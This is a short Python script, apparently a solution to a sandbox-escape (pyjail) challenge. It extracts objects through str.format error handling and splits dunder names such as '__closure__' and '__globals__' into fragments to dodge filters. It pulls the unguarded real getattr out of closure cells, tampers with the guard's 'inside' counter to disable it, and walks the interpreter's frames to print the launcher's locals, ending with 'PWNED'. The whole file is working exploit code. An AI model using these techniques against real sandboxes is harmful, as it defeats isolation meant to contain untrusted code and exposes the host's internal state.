import json, typing
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj
def nm(v):
    try:
        return v.__name__
    except AttributeError:
        return repr(type(v))
def cells(f):
    out = {}
    for c in grab(f, ".__clos" + "ure__"):
        v = grab(c, ".cell_con" + "tents")
        out[nm(v)] = v
    return out
B = grab(json.dumps, ".__glo" + "bals__[__buil" + "tins__]")
gget = B["get" + "attr"]
gc_ = cells(gget)
rg = gc_["getattr"]                       # the real, unguarded getattr
fa = cells(gc_["library_call"])["frame_at"]
inside = [v for v in cells(cells(fa)["enter"]).values() if type(v) is list][0]
print("policy 'inside' list:", inside)
inside[0] += 1000                        # the hook now waves frame and code reads through
S = grab(typing.cast, ".__glo" + "bals__[s" + "ys]")
f = rg(S, "_get" + "frame")()
chain = []
last = None
while f is not None:
    co = rg(f, "f_co" + "de")
    chain.append(co.co_name)
    last = f
    f = rg(f, "f_ba" + "ck")
print(chain)
loc = rg(last, "f_loc" + "als")
print("PW" + "NED", "frames reached; outermost launcher frame locals:", sorted(loc), "run:", loc.get("run"))
